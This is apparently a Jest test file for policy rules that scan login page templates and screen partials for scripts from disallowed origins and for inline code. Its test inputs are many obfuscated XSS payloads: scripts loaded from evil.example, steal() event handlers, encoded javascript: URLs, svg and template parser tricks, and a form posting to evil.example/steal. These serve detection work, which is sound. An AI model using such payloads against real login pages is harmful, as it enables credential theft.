/**
 * `login-page-allowed-origins` and `login-partials-no-inline-code` on the markup of a login page
 * template and a prompt's screen partials, both doors: tricky markup (attributes in any case,
 * quotes or none, `//host` and `\\host` URLs, character references, whitespace inside a URL,
 * Liquid around and inside tags) is read as the browser reads it.
 */
import { tenantResource, type TenantResource } from "../../../policy/src/resources";
import { allowedOrigins, importsOf, noInlineCode, originAllowed } from "../../../policy/src/rules/login-page";
import { elementsOf } from "../../../policy/src/rules/markup";
import { UNKNOWN } from "../../../policy/src/rules/urls";

const urn = (type: string, name: string) => `urn:pulumi:dev::shop::${type}::${name}`;

function resource(door: "dynamic" | "plugin", typeName: string, props: Record<string, unknown>): TenantResource {
  const type = door === "dynamic" ? `pulumi-nodejs:dynamic/tenant:${typeName}` : `tenant:index:${typeName}`;
  return tenantResource({ type, name: "look", urn: urn(type, "look"), props })!;
}

/** Partials of the login prompt: one piece of markup at the login screen's form-content-start. */
const partial = (html: string, door: "dynamic" | "plugin" = "dynamic") =>
  resource(door, "PromptScreenPartials", { prompt: "login", screens: { login: { "form-content-start": html } } });
const template = (html: string) => resource("dynamic", "LoginTemplate", { template: html });

const messages = (violations: { message: string }[]) => violations.map((violation) => violation.message);
const CDN = { allowedOrigins: ["https://cdn.example.com", "https://*.assets.example.net"] };

describe("reading markup", () => {
  it("reads tags and attributes in any case, quoted or not, and decodes character references", () => {
    const [script] = elementsOf(`<SCRIPT\tSrC = 'https&#x3A;&sol;/evil.example/x.js' defer>`);
    expect(script).toEqual({
      tag: "script",
      attributes: [
        { name: "src", value: "https://evil.example/x.js" },
        { name: "defer", value: "" },
      ],
      text: "",
    });
    expect(elementsOf("<img/src=a.png/onerror=alert(1)>")[0]!.attributes).toEqual([
      { name: "src", value: "a.png/onerror=alert(1)" },
    ]);
    expect(elementsOf('<img src="a.png"/onerror="x">')[0]!.attributes.map((a) => a.name)).toEqual(["src", "onerror"]);
    expect(elementsOf('<a href="&#106;ava&Tab;script&colon;x&unknown;">')[0]!.attributes).toEqual([
      { name: "href", value: "java\tscript:x&unknown;" },
    ]);
  });

  it("skips comments as the browser ends them, and reads no tag inside a script's text", () => {
    expect(elementsOf("<!--> <script src=//a.example/x.js>").map((e) => e.tag)).toEqual(["script"]);
    expect(elementsOf("<!-- <script src=//a.example> --!> <p>").map((e) => e.tag)).toEqual(["p"]);
    expect(elementsOf("<script>var s = '<iframe src=//a.example>';</script ><b>").map((e) => e.tag)).toEqual([
      "script",
      "b",
    ]);
  });

  it("reads Liquid first: a tag separates attributes, a comment goes, a comparison is no markup", () => {
    expect(elementsOf('<div {% if a %}onclick="x"{% endif %}>')[0]!.attributes.map((a) => a.name)).toEqual(["onclick"]);
    expect(elementsOf("{% comment %}<script src=//a.example></script>{% endcomment %}<p>").map((e) => e.tag)).toEqual([
      "p",
    ]);
    expect(elementsOf("{% if a<b %}<script src=//a.example></script>{% endif %}").map((e) => e.tag)).toEqual([
      "script",
    ]);
  });

  it("reads what the parser reads: foreign content, templates, tags the tree drops, references it keeps", () => {
    // Inside <svg> a <style> is markup, so the <img> after it is a tag of its own.
    expect(noInlineCode(partial("<svg><style><img src=x onerror=steal()></style></svg>"))).toHaveLength(1);
    expect(allowedOrigins(partial("<template><script src=//evil.example/x.js></script></template>"), CDN)).toHaveLength(
      1,
    );
    // A partial's <body onload> lands on the page's <body>; browsers keep an <img> inside a <select>.
    expect(noInlineCode(partial('<body onload="steal()">'))).toHaveLength(1);
    expect(noInlineCode(partial("<select><img src=x onerror=steal()></select>"))).toHaveLength(1);
    // `&slash;` is no character reference: the browser loads it as written, a path on the page's own origin.
    expect(allowedOrigins(partial('<script src="https:&slash;&slash;evil.example/x.js"></script>'), CDN)).toEqual([]);
  });

  it("reads a stylesheet's imports", () => {
    expect(importsOf(`/* @import "no" */ @import url( "https://a.example/x.css" ); @IMPORT 'b.css';`)).toEqual([
      "https://a.example/x.css",
      "b.css",
    ]);
  });
});

describe("login-page-allowed-origins", () => {
  it("passes the page's own URLs and allowed origins, and names every other origin with the fix", () => {
    expect(
      allowedOrigins(
        partial(
          '<script src="/js/login.js"></script><script src=https://cdn.example.com/a.js></script>' +
            '<link rel="stylesheet" href="https://x.assets.example.net/a.css"><script src="https://cdn.example.com/{{ v }}/a.js"></script>',
        ),
        CDN,
      ),
    ).toEqual([]);
    expect(messages(allowedOrigins(partial('<script src="https://evil.example/x.js"></script>'), CDN))).toEqual([
      expect.stringMatching(
        /^PromptScreenPartials "look": screens\.login\.form-content-start <script src="https:\/\/evil\.example\/x\.js"> loads a script whose URL reaches https:\/\/evil\.example, which is not on allowedOrigins\. .*add it to the rule's allowedOrigins/,
      ),
    ]);
  });

  it.each([
    ["a protocol-relative URL", "<script src=//evil.example/x.js></script>"],
    ["a tag name ended by a slash", "<script/src=//evil.example/x.js></script>"],
    ["backslashes", "<script src='\\\\evil.example\\x.js'></script>"],
    ["whitespace and newlines inside the URL", '<script src="  ht\ntps://evil.example/x.js  "></script>'],
    ["a host spelt with character references", '<script src="https:&#47;&#x2F;evil&period;example/x.js"></script>'],
    ["the wildcard's own domain (only subdomains match)", '<script src="https://assets.example.net/x.js"></script>'],
    ["http:// for an allowed https:// origin", '<script src="http://cdn.example.com/x.js"></script>'],
    ["a stylesheet", '<LINK REL="preload Stylesheet" HREF="https://evil.example/x.css">'],
    ["a frame", '<iframe src="https://evil.example/"></iframe>'],
    ["a form's target", '<button formaction="https://evil.example/steal">Go</button>'],
    ["a base URL", '<base href="https://evil.example/">'],
    ["a stylesheet import", '<style>@import url("https://evil.example/x.css");</style>'],
    ["a data: script", '<script src="data:text/javascript,alert(1)"></script>'],
    ["an origin built from Liquid", '<script src="{{ cdn }}/x.js"></script>'],
    ["a path that Liquid may turn into a host", '<script src="/{{ path }}"></script>'],
    ["a host chosen by a Liquid tag", '<script src="https://{% if a %}cdn.example.com{% endif %}/x.js"></script>'],
    ["a script in an iframe's srcdoc", `<iframe srcdoc="<script src='https://evil.example/x.js'></script>"></iframe>`],
    ["a root path that tabs turn into a host", '<script src="/&Tab;/evil.example/{{ v }}.js"></script>'],
  ])("names %s", (_case, html) => {
    expect(allowedOrigins(partial(html), CDN)).toHaveLength(1);
  });

  it("shows Liquid and control characters in the URL it names", () => {
    expect(messages(allowedOrigins(partial('<script src="{{ cdn }}/x.js"></script>'), CDN))).toEqual([
      expect.stringContaining('<script src="{{…}}/x.js"> loads a script whose URL has its origin built by Liquid'),
    ]);
    expect(messages(allowedOrigins(partial('<script src="ht\ttps://evil.example/x.js"></script>'), CDN))).toEqual([
      expect.stringContaining(
        '<script src="ht\\ttps://evil.example/x.js"> loads a script whose URL reaches https://evil.example',
      ),
    ]);
  });

  it("names an inline script in a partial, not in the template unless configured, and not a data block", () => {
    expect(messages(allowedOrigins(partial("<script>\n fetch('/x')</script>"), {}))).toEqual([
      expect.stringMatching(/screens\.login\.form-content-start holds an inline <script>\. A partial runs inside/),
    ]);
    expect(allowedOrigins(partial('<script type="application/ld+json">{"a":1}</script>'), {})).toEqual([]);
    expect(allowedOrigins(partial('<script type="module">import "/x.js"</script>'), {})).toHaveLength(1);
    const page = template("<html><head>{%- auth0:head -%}<script>window.a = 1</script></head></html>");
    expect(allowedOrigins(page, {})).toEqual([]);
    expect(messages(allowedOrigins(page, { templateInlineScripts: false }))).toEqual([
      expect.stringMatching(
        /^LoginTemplate "look": template holds an inline <script>\. templateInlineScripts is false/,
      ),
    ]);
  });

  it("judges the template's loads and the plugin door's partials, and leaves unknown values alone", () => {
    expect(allowedOrigins(template('<script src="https://evil.example/x.js"></script>'), CDN)).toHaveLength(1);
    expect(
      messages(allowedOrigins(partial('<script src="https://evil.example/x.js"></script>', "plugin"), CDN)),
    ).toEqual([expect.stringContaining("screens.login.form-content-start")]);
    expect(allowedOrigins(partial(UNKNOWN), CDN)).toEqual([]);
    expect(
      allowedOrigins(resource("dynamic", "PromptScreenPartials", { prompt: "login", screens: UNKNOWN }), CDN),
    ).toEqual([]);
  });

  it("matches origins by scheme, host and port; a wildcard only its subdomains", () => {
    expect(originAllowed("https://cdn.example.com", ["https://cdn.example.com/"])).toBe(true);
    expect(originAllowed("https://cdn.example.com:8443", ["https://cdn.example.com"])).toBe(false);
    expect(originAllowed("https://a.b.example.com", ["https://*.example.com"])).toBe(true);
    expect(originAllowed("https://evilexample.com", ["https://*.example.com"])).toBe(false);
    expect(originAllowed("https://example.com", ["not a url", "*.example.com"])).toBe(false);
  });
});

describe("login-partials-no-inline-code", () => {
  it.each([
    ["an event handler", '<img src="x.png" onerror="steal()">'],
    ["an event handler in upper case, unquoted", "<svg><g ONLOAD=steal()></g></svg>"],
    ["a handler after a slash", '<img src="x.png"/onerror="steal()">'],
    ["a javascript: URL", '<a href="javascript:steal()">Help</a>'],
    ["a javascript: URL in mixed case with spaces", '<a href="  JaVaScRiPt:steal()">Help</a>'],
    ["a javascript: URL with a tab and references", '<a href="java&#x09;script&colon;steal()">Help</a>'],
    ["a javascript: form target", '<button formaction="javascript:steal()">Go</button>'],
    ["an SVG link", '<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>'],
    ["a refresh to a javascript: URL", `<meta http-equiv="refresh" content="0; url=javascript:steal()">`],
    ["a handler added by a Liquid condition", '<div {% if a %}onclick="steal()"{% endif %}></div>'],
    ["a javascript: URL behind a Liquid condition", '<a href="{% if a %}javascript:steal(){% endif %}">x</a>'],
  ])("names %s", (_case, html) => {
    expect(noInlineCode(partial(html))).toHaveLength(1);
  });

  it("says what to do, and passes ordinary markup and words that only look like it", () => {
    expect(messages(noInlineCode(partial('<img src="x.png" onerror="steal()">')))).toEqual([
      expect.stringMatching(
        /^PromptScreenPartials "look": screens\.login\.form-content-start <img onerror=…> is an inline event handler.*Remove it/,
      ),
    ]);
    const ordinary =
      '<a href="/help" title="javascript: not a URL here" data-onclick="x">Help</a><p>onclick="no"</p>' +
      '<input name="online" aria-label="on">';
    expect(noInlineCode(partial(ordinary))).toEqual([]);
  });

  it("leaves the template alone unless includeTemplate is set", () => {
    const page = template('<body onload="start()">{%- auth0:widget -%}</body>');
    expect(noInlineCode(page)).toEqual([]);
    expect(messages(noInlineCode(page, { includeTemplate: true }))).toEqual([
      expect.stringMatching(/^LoginTemplate "look": template <body onload=…> is an inline event handler/),
    ]);
  });
});
